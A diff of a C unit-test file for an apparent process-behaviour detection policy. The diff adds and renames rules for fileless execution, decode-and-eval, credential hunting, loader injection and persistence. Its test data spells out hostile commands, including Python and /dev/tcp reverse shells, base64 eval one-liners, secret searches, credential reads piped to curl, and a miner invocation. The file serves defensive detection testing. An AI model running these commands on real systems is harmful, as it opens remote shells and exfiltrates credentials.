@@ -1273,8 +1273,9 @@ static void test_on_errors(void **state)
 			  "2:46", "condition 'address' is only valid in rules on: connect");
 	expect_load_error("rules:\n  - {name: a, action: log, on: dns, match: {qnme: x}}\n",
 			  "2:45", "unknown condition 'qnme'; valid: exe, filename, basename, argv, "
-			  "arg0..arg4095, cmdline, argc, cwd, uid, euid, parent, ancestor, not, "
-			  "any, qname, qtype");
+			  "arg0..arg4095, cmdline, argc, cwd, uid, euid, parent, ancestor, stdin, "
+			  "stdout, stdio, program_from, script_origin, exe_origin, env, "
+			  "name_mismatch, not, any, qname, qtype");
 	/* on: itself */
 	expect_load_error("rules:\n  - {name: a, action: log, on: network, match: {port: 1}}\n",
 			  "2:32", "unknown 'on' event kind 'network'; valid: exec, connect, dns, "
@@ -1629,27 +1630,32 @@ static const struct exec_case attacks[] = {
 	  ARGV("python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('1.2.3.4',4444));"
 	       "os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"),
 	  NPM_ANC, "reverse-shell-interpreter" },
-	{ "/dev/shm/x", ARGV("x"), NPM_ANC, "exec-from-shm-or-memfd" },
-	{ "/memfd:payload (deleted)", ARGV("payload"), NPM_ANC, "exec-from-shm-or-memfd" },
+	{ "/dev/shm/x", ARGV("x"), NPM_ANC, "exec-from-shm" },
+	{ "/memfd:payload (deleted)", ARGV("payload"), NPM_ANC, "fileless-exec" },
+	{ "/tmp/x (deleted)", ARGV("x"), NPM_ANC, "fileless-exec" },
+	{ "/tmp/.../x", ARGV("x"), NPM_ANC, "exec-from-deceptive-path" },
+	{ "/tmp/cache /x", ARGV("x"), NPM_ANC, "exec-from-deceptive-path" },
+	{ "/tmp/x", ARGV("[kworker/0:1]"), NPM_ANC, "masquerade-kernel-thread" },
+	{ "/usr/bin/python3.11", ARGV("python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"),
+	  NPM_ANC, "interpreter-decode-eval" },
+	{ "/usr/bin/python3.11", ARGV("python3", "-c", "d=b'..';exec(bytes(b ^ 42 for b in d))"),
+	  NPM_ANC, "interpreter-decode-eval" },
+	{ "/usr/bin/perl", ARGV("perl", "-MMIME::Base64", "-e", "eval decode_base64('cHJpbnQ=')"),
+	  NPM_ANC, "interpreter-decode-eval" },
+	{ "/usr/bin/node", ARGV("node", "-e", "eval(Buffer.from('Y29uc29sZQ==','base64').toString())"),
+	  NPM_ANC, "interpreter-decode-eval" },
+	{ "/usr/bin/find", ARGV("find", "/home", "-name", "id_rsa"), NPM_ANC, "credential-hunting" },
+	{ "/usr/bin/find", ARGV("find", ".", "-name", "*.pem"), NPM_ANC, "credential-hunting" },
+	{ "/usr/bin/grep", ARGV("grep", "-rE", "AKIA[0-9A-Z]{16}", "/home"), NPM_ANC,
+	  "credential-hunting" },
+	{ "/usr/local/bin/trufflehog", ARGV("trufflehog", "filesystem", "/"), NPM_ANC,
+	  "credential-hunting" },
 	{ "/tmp/.X25-unix/.rsync/a/kswapd0", ARGV("kswapd0"), NPM_ANC, "exec-from-hidden-temp-dir" },
 	{ "/tmp/.cache/x", ARGV("x"), SH_MAKE, "exec-from-hidden-temp-dir" },
 	{ "/tmp/bin/helper", ARGV("helper"), ANC("/usr/bin/dash", "/usr/local/bin/pnpm"),
 	  "exec-from-temp-during-package-install" },
-	{ "/usr/bin/cat", ARGV("cat", "/proc/1234/environ"), NPM_ANC,
-	  "read-process-memory-or-environ" },
-	{ "/usr/bin/dd", ARGV("dd", "if=/proc/1/mem", "bs=1", "skip=4096"), NPM_ANC,
-	  "read-process-memory-or-environ" },
-	{ "/usr/bin/dash", ARGV("sh", "-c", "tr '\\0' '\\n' < /proc/1/environ | curl -d @- x"),
-	  NPM_ANC, "read-process-memory-or-environ" },
-	{ "/usr/bin/cat", ARGV("cat", "/root/.ssh/id_rsa"), NPM_ANC, "credential-file-read" },
-	{ "/usr/bin/tar", ARGV("tar", "czf", "/tmp/c.tgz", "/home/ci/.aws/credentials"), NPM_ANC,
-	  "credential-file-read" },
 	{ "/usr/bin/bash", ARGV("bash", "-c", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196"),
 	  NPM_ANC, "reverse-shell-dev-tcp" },
-	{ "/usr/bin/curl", ARGV("curl", "-F", "f=@/home/ci/.docker/config.json", "https://x"),
-	  NPM_ANC, "credential-file-read" },
-	{ "/usr/bin/base64", ARGV("base64", "/home/ci/.npmrc"), NPM_ANC, "credential-file-read" },
-	{ "/usr/bin/cat", ARGV("cat", "/etc/shadow"), NPM_ANC, "credential-file-read" },
 	{ "/opt/x/xmrig", ARGV("xmrig", "-o", "stratum+tcp://pool:3333"), NPM_ANC, "crypto-miner" },
 };
 
@@ -1769,6 +1775,126 @@ static void test_default_silent_on_builds(void **state)
 	policy_free(p);
 }
 
+/* The default's behaviour rules, on the facts provenance gives them. */
+static void test_default_provenance(void **state)
+{
+	struct bw_policy *p = NULL;
+	const struct bw_rule *out[8];
+	struct bw_event_info *e;
+	struct evx x;
+	struct fx f;
+
+	assert_int_equal(policy_load_default(&p, stderr), 0);
+	/* a shell reading its program from a pipe a downloader feeds */
+	fx_set(&f, "/usr/bin/dash", ARGV("sh"), SH_MAKE);
+	f.e.program_from = BW_PROG_STDIN;
+	f.e.stdin_prov = BW_PROV_PIPE | BW_PROV_NETWORK;
+	assert_true(matches(p, &f.e, "download-piped-to-shell"));
+	f.e.stdin_prov = BW_PROV_PIPE | BW_PROV_DECODER;
+	assert_true(matches(p, &f.e, "decoded-script-to-shell"));
+	/* ... but a pipe of ordinary data, or a program from a file, is not */
+	f.e.stdin_prov = BW_PROV_PIPE;
+	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
+	fx_set(&f, "/usr/bin/python3.11", ARGV("python3", "setup.py"), SH_MAKE);
+	f.e.program_from = BW_PROG_FILE;
+	f.e.stdin_prov = BW_PROV_PIPE | BW_PROV_NETWORK;
+	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
+	/* sh -c "$(curl ...)" */
+	fx_set(&f, "/usr/bin/bash", ARGV("bash", "-c", "echo hi"), SH_MAKE);
+	f.e.program_from = BW_PROG_ARGUMENT;
+	f.e.script_prov = BW_PROV_NETWORK;
+	assert_true(matches(p, &f.e, "download-piped-to-shell"));
+	f.e.script_prov = BW_PROV_DECODER;
+	assert_true(matches(p, &f.e, "decoded-script-to-shell"));
+	/* a shell on an IP socket, not on a Unix one (systemd's journal) */
+	fx_set(&f, "/usr/bin/dash", ARGV("sh", "-i"), NPM_ANC);
+	f.e.program_from = BW_PROG_STDIN;
+	f.e.stdio_prov = BW_PROV_SOCKET | BW_PROV_PIPE;
+	assert_true(matches(p, &f.e, "reverse-shell-socket-stdio"));
+	f.e.stdio_prov = BW_PROV_LOCAL_SOCKET;
+	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
+	/* dropped and executed; a package manager's install is not */
+	fx_set(&f, "/tmp/payload", ARGV("payload"), SH_MAKE);
+	f.e.exe_prov = BW_PROV_WRITTEN | BW_PROV_NETWORK;
+	assert_true(matches(p, &f.e, "dropped-file-executed"));
+	f.e.exe_prov = BW_PROV_WRITTEN | BW_PROV_PACKAGE_MANAGER;
+	assert_false(matches(p, &f.e, "dropped-file-executed"));
+	/* masquerade */
+	fx_set(&f, "/tmp/miner", ARGV("sshd"), SH_MAKE);
+	f.e.name_mismatch = true;
+	assert_true(matches(p, &f.e, "masquerade-process-name"));
+	/* loader variables: fakeroot and sanitizers are fine, others not */
+	fx_set(&f, "/usr/bin/true", ARGV("true"), SH_MAKE);
+	f.e.env = (char *const *)ARGV("LD_PRELOAD=/tmp/evil.so");
+	f.e.n_env = 1;
+	assert_true(matches(p, &f.e, "loader-preload-injection"));
+	f.e.env = (char *const *)ARGV("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libfakeroot/libfakeroot-sysv.so",
+				      "LD_LIBRARY_PATH=/usr/lib/x86_64-linux-gnu/libfakeroot");
+	f.e.n_env = 2;
+	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
+	f.e.env = (char *const *)ARGV("LD_PRELOAD=libeatmydata.so");
+	f.e.n_env = 1;
+	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
+	f.e.env = (char *const *)ARGV("LD_PRELOAD=/tmp/libfakeroot.so");
+	assert_true(matches(p, &f.e, "loader-preload-injection"));
+	f.e.env = (char *const *)ARGV("LD_AUDIT=/tmp/a.so");
+	assert_true(matches(p, &f.e, "loader-preload-injection"));
+
+	/* credentials by file access: any reader but the file's consumer */
+	e = ev_file(&x, "open-read", "/home/ci/.ssh/id_ed25519", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/cp", ARGV("cp", "/home/ci/.ssh/id_ed25519", "/tmp/k"), SH_MAKE);
+	assert_int_equal(policy_match_event(p, e, out, 8), 1);
+	assert_string_equal(policy_rule_name(out[0]), "credential-file-access");
+	fx_set(&x.proc, "/usr/bin/ssh", ARGV("ssh", "-i", "/home/ci/.ssh/id_ed25519", "host"), SH_MAKE);
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	e = ev_file(&x, "open-read", "/home/ci/.npmrc", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/node", ARGV("node", "/usr/bin/npm", "ci"), SH_MAKE);
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "x.py"), SH_MAKE);
+	assert_int_equal(policy_match_event(p, e, out, 8), 1);
+	e = ev_file(&x, "open-read", "/home/runner/actions-runner/.credentials", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/cat", ARGV("cat", ".credentials"), SH_MAKE);
+	assert_int_equal(policy_match_event(p, e, out, 8), 1);
+	/* process memory inside the job */
+	e = ev_file(&x, "open-read", "/proc/4300/mem", NULL, 4300, true);
+	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "dump.py"), SH_MAKE);
+	assert_int_equal(policy_match_event(p, e, out, 8), 1);
+	assert_string_equal(policy_rule_name(out[0]), "read-memory-of-process-in-job");
+	fx_set(&x.proc, "/usr/bin/gdb", ARGV("gdb", "-p", "4300"), SH_MAKE);
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	e = ev_priv(&x, "process-vm", 4300, true);
+	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "dump.py"), SH_MAKE);
+	assert_true(policy_match_event(p, e, out, 8) == 1 &&
+		    !strcmp(policy_rule_name(out[0]), "process-vm-access"));
+	/* setuid and capabilities; an ordinary chmod +x is not */
+	e = ev_file(&x, "chmod", "/tmp/x", NULL, 0, false);
+	e->file.mode = 04755;
+	assert_int_equal(policy_match_event(p, e, out, 8), 1);
+	assert_string_equal(policy_rule_name(out[0]), "setuid-bit-set");
+	e->file.mode = 0755;
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	e = ev_file(&x, "setxattr", "/tmp/x", NULL, 0, false);
+	e->file.xattr = "security.capability";
+	assert_int_equal(policy_match_event(p, e, out, 8), 1);
+	e->file.xattr = "user.mime_type";
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	/* persistence; the same write by dpkg installing a package is not */
+	e = ev_file(&x, "open-write", "/etc/cron.d/job", NULL, 0, false);
+	assert_int_equal(policy_match_event(p, e, out, 8), 1);
+	assert_string_equal(policy_rule_name(out[0]), "persistence-write");
+	e = ev_file(&x, "open-write", "/home/ci/.bashrc", NULL, 0, false);
+	assert_int_equal(policy_match_event(p, e, out, 8), 1);
+	e = ev_file(&x, "rename", "/tmp/k", "/root/.ssh/authorized_keys", 0, false);
+	assert_int_equal(policy_match_event(p, e, out, 8), 1);
+	e = ev_file(&x, "open-write", "/etc/cron.daily/logrotate", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/dpkg", ARGV("dpkg", "--unpack", "x.deb"),
+	       ANC("/usr/bin/apt-get", "/usr/bin/bash"));
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	e = ev_file(&x, "open-write", "/home/ci/src/project/.profile.d/x", NULL, 0, false);
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	policy_free(p);
+}
+
 static void test_default_catches_attacks(void **state)
 {
 	struct bw_policy *p = NULL;
@@ -1780,7 +1906,7 @@ static void test_default_catches_attacks(void **state)
 	/* fexecve of a file on disk is not fileless: its exe is a real path */
 	fx_set(&f, "/usr/lib/x/real", ARGV("real"), NPM_ANC);
 	f.e.filename = "/dev/fd/3";
-	assert_false(matches(p, &f.e, "exec-from-shm-or-memfd"));
+	assert_false(matches(p, &f.e, "fileless-exec"));
 	/* runc's memfd self-copy is tolerated */
 	fx_set(&f, "/memfd:runc_cloned:/proc/self/exe (deleted)", ARGV("runc", "init"), NO_ANC);
 	assert_int_equal(policy_match(p, &f.e, NULL, 0), 0);
@@ -1863,6 +1989,7 @@ int main(void)
 		cmocka_unit_test(test_default_loads),
 		cmocka_unit_test(test_default_silent_on_builds),
 		cmocka_unit_test(test_default_catches_attacks),
+		cmocka_unit_test(test_default_provenance),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
